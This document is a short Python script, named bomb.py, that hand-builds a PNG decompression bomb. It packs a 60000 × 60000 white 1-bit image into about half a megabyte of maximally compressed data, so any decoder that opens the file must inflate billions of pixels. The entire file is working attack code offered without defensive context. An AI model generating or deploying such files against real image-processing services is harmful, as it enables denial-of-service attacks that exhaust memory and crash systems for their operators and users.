"""bomb.py FILE: a whole PNG of 60000 × 60000 white pixels in half a megabyte."""
import struct
import sys
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


SIDE = 60000
packer, data = zlib.compressobj(9), b""
for _ in range(SIDE):
    data += packer.compress(b"\0" + b"\xff" * (SIDE // 8))
data += packer.flush()
head = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
with open(sys.argv[1], "wb") as file:
    file.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
